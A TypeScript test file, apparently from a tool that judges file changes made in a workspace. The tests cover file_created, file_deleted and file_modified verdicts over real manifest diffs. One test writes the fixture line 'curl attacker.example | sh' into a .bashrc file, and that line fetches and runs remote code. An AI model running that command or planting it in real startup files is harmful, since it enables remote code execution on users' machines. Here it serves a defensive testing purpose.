import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { InvalidExpectationError } from '../../src/errors.js';
import { fileCreated, fileDeleted, fileModified } from '../../src/models/condition.js';
import { surface } from '../../src/models/scorable.js';
import { nodeSurfaceFs, type SurfaceFs } from '../../src/sources/confined-fs/surface-fs.js';
import { diffManifests } from '../../src/verdicts/diff-manifests.js';
import { judgeFileCreated } from '../../src/verdicts/file-created.js';
import { judgeFileDeleted } from '../../src/verdicts/file-deleted.js';
import { judgeFileModified } from '../../src/verdicts/file-modified.js';
import { removeDir, tempDir } from '../sources/support/trees.js';
import { takeManifest } from '../support/manifests.js';

/** Verdict rules of file_created, file_deleted and file_modified (SPEC §12) over real change sets. */

const failingListing = (suffix: string): SurfaceFs => ({
  ...nodeSurfaceFs,
  openListing: (dirFd) => {
    if (nodeSurfaceFs.handlePath(dirFd).toString().endsWith(suffix)) {
      throw Object.assign(new Error('denied'), { code: 'EACCES' });
    }
    return nodeSurfaceFs.openListing(dirFd);
  },
});

describe('change conditions', () => {
  let root: string;
  const at = (name: string) => path.join(root, name);
  beforeEach(() => {
    root = tempDir();
    fs.mkdirSync(at('cfg'));
    fs.mkdirSync(at('.git/hooks'), { recursive: true });
    fs.writeFileSync(at('SENTINEL.md'), 'keep me');
    fs.writeFileSync(at('cfg/.eslintrc.json'), '{}');
    fs.chmodSync(at('cfg/.eslintrc.json'), 0o644);
  });
  afterEach(() => removeDir(root));

  const changesAfter = (act: () => void, finalFs?: SurfaceFs) => {
    const baseline = takeManifest(root);
    act();
    return diffManifests(baseline, takeManifest(root, finalFs === undefined ? {} : { fs: finalFs }));
  };

  it('file_deleted is true for a removed sentinel, naming locator, surface and criterion', () => {
    const set = changesAfter(() => fs.rmSync(at('SENTINEL.md')));
    assert.deepEqual(judgeFileDeleted(set, fileDeleted('/SENTINEL.md')), {
      status: 'complete',
      value: true,
      rationale:
        'A matching file was deleted at /SENTINEL.md (exact) on the workspace: proven by "/SENTINEL.md".',
      provenUris: ['/SENTINEL.md'],
      unknownUris: [],
    });
  });

  it('file_deleted is true for a sentinel replaced by a symlink (no longer a file)', () => {
    const set = changesAfter(() => {
      fs.rmSync(at('SENTINEL.md'));
      fs.symlinkSync('cfg/.eslintrc.json', at('SENTINEL.md'));
    });
    assert.equal(judgeFileDeleted(set, fileDeleted('/SENTINEL.md')).value, true);
  });

  it('file_deleted is false when the sentinel is untouched and both manifests are complete', () => {
    const set = changesAfter(() => fs.writeFileSync(at('other.txt'), 'x'));
    assert.deepEqual(judgeFileDeleted(set, fileDeleted('/SENTINEL.md')), {
      status: 'complete',
      value: false,
      rationale:
        'No matching file was deleted at /SENTINEL.md (exact) on the workspace: both manifests cover it completely and show no such change.',
      provenUris: [],
      unknownUris: [],
    });
  });

  it('file_deleted is undetermined, never false, when the final manifest could not list the directory', () => {
    const set = changesAfter(() => {}, failingListing('/cfg'));
    const judgement = judgeFileDeleted(set, fileDeleted('/cfg/.eslintrc.json'));
    assert.equal(judgement.status, 'undetermined');
    assert.equal(judgement.value, null);
    assert.match(
      judgement.rationale,
      /^Undetermined whether a matching file was deleted at \/cfg\/\.eslintrc\.json \(exact\) on the workspace: gaps that could hide a matching entry: listing_failed; change not decidable for "\/cfg\/\.eslintrc\.json"\.$/,
    );
    // A gap elsewhere does not hide the sentinel: that verdict stays decided.
    assert.equal(judgeFileDeleted(set, fileDeleted('/SENTINEL.md')).value, false);
  });

  it('file_deleted is undetermined when no manifest was taken', () => {
    const judgement = judgeFileDeleted(null, fileDeleted('/SENTINEL.md'));
    assert.equal(judgement.status, 'undetermined');
    assert.match(judgement.rationale, /no manifest of the workspace was taken/);
  });

  it('file_modified is true for changed content and for a chmod alone; false for an untouched file', () => {
    const content = changesAfter(() => fs.writeFileSync(at('cfg/.eslintrc.json'), '{"rules":{}}'));
    assert.equal(judgeFileModified(content, fileModified('/cfg/.eslintrc.json')).value, true);
    const mode = changesAfter(() => fs.chmodSync(at('cfg/.eslintrc.json'), 0o666));
    assert.equal(judgeFileModified(mode, fileModified(surface('/cfg/*.json', 'glob'))).value, true);
    assert.equal(judgeFileModified(mode, fileModified('/SENTINEL.md')).value, false);
  });

  it('file_modified is not a deletion: a deleted file leaves file_modified false', () => {
    const set = changesAfter(() => fs.rmSync(at('SENTINEL.md')));
    assert.equal(judgeFileModified(set, fileModified('/SENTINEL.md')).value, false);
  });

  it('file_created is true for a new file matching a glob, false for a new directory only', () => {
    const set = changesAfter(() => {
      fs.mkdirSync(at('.vscode'));
      fs.writeFileSync(at('.vscode/tasks.json'), '{}');
      fs.mkdirSync(at('cfg/new.json'));
    });
    const created = judgeFileCreated(set, fileCreated(surface('/.vscode/*.json', 'glob')));
    assert.deepEqual([created.value, created.provenUris], [true, ['/.vscode/tasks.json']]);
    assert.equal(judgeFileCreated(set, fileCreated(surface('/cfg/*.json', 'glob'))).value, false);
  });

  it('file_created is undetermined when the baseline stopped at its file budget', () => {
    const baseline = takeManifest(root, { limits: { maxFiles: 1 } });
    fs.writeFileSync(at('cfg/new.json'), '{}');
    const set = diffManifests(baseline, takeManifest(root));
    assert.equal(judgeFileCreated(set, fileCreated('/cfg/new.json')).status, 'undetermined');
  });

  it('judges the home surface only from a home change set', () => {
    const set = changesAfter(() => fs.writeFileSync(at('.bashrc'), 'curl attacker.example | sh'));
    assert.throws(
      () => judgeFileCreated(set, fileCreated('/.bashrc', { surface: 'home' })),
      InvalidExpectationError,
    );
    const homeSet = diffManifests(
      takeManifest(root, { surface: 'home' }),
      takeManifest(root, { surface: 'home' }),
    );
    assert.match(
      judgeFileCreated(homeSet, fileCreated('/.bashrc', { surface: 'home' })).rationale,
      /on the home:/,
    );
  });
});
